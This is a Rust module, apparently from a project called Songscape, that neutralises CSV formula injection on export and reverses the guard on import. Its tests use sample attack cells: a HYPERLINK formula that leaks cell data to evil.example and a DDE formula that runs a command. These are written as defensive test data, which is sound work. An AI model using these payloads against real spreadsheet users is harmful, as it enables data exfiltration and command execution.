//! Exports that are safe to open in a spreadsheet (OWASP's "CSV injection"): a text cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by Excel,
//! LibreOffice or Google Sheets, so every CSV Songscape writes puts an apostrophe before it, the
//! spreadsheets' own sign for "this is text". Numbers such as `-6.5` are left alone.
//!
//! Reading a CSV undoes exactly that: one apostrophe is removed where it stands (after any other
//! apostrophes) before one of those characters. A cell that already starts with apostrophes
//! before such a character gets one more on export, so export → import gives back every cell as
//! it was, `'Til Tuesday` included.

use std::borrow::Cow;

/// The characters a spreadsheet takes as the start of a formula.
fn starts_formula(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `text` after its leading apostrophes, if it has at least one and a formula character follows.
fn guarded_body(text: &str) -> Option<&str> {
    let body = text.trim_start_matches('\'');
    (body.len() < text.len() && body.chars().next().is_some_and(starts_formula)).then_some(body)
}

/// A plain number as spreadsheets read one (`-6.5`, `+3`, `-1e-5`, `-0,55`): not a formula.
fn is_number(text: &str) -> bool {
    let t = text.trim();
    let parsed = t.parse::<f64>().or_else(|_| t.replacen(',', ".", 1).parse::<f64>());
    // `-inf` and `-NaN` parse in Rust but are words to a spreadsheet.
    parsed.is_ok_and(f64::is_finite) && t.bytes().any(|b| b.is_ascii_digit())
}

/// The cell as every export writes it.
pub fn guard(cell: &str) -> Cow<'_, str> {
    let formula = cell.chars().next().is_some_and(starts_formula) && !is_number(cell);
    match formula || guarded_body(cell).is_some() {
        true => Cow::Owned(format!("'{cell}")),
        false => Cow::Borrowed(cell),
    }
}

/// The cell as it was before `guard`; any other cell unchanged.
pub fn unguard(cell: &str) -> &str {
    match guarded_body(cell) {
        Some(_) => &cell[1..],
        None => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
                "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("@ ME", "'@ ME"),
            ("-- intro --", "'-- intro --"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-6.5db", "'-6.5db"),
            ("-inf", "'-inf"),
            ("-", "'-"),
            ("'=already", "''=already"),
            ("-6.5", "-6.5"),
            ("+3", "+3"),
            ("-1e-5", "-1e-5"),
            ("-0,55", "-0,55"),
            ("'Til Tuesday", "'Til Tuesday"),
            ("Don't Stop", "Don't Stop"),
            ("", ""),
            ("a=b", "a=b"),
        ];
        for (cell, written) in cases {
            assert_eq!(guard(cell), written, "{cell:?}");
            assert_eq!(unguard(written), cell, "{written:?} reads back");
        }
    }

    #[test]
    fn export_then_import_gives_every_cell_back() {
        for cell in ["=1", "'=1", "''=1", "'", "''", "'a", "-6.5", "'-6.5", "-x", "@", "'@", "x'=", "\t", "'\t"] {
            assert_eq!(unguard(&guard(cell)), cell, "{cell:?}");
        }
    }
}
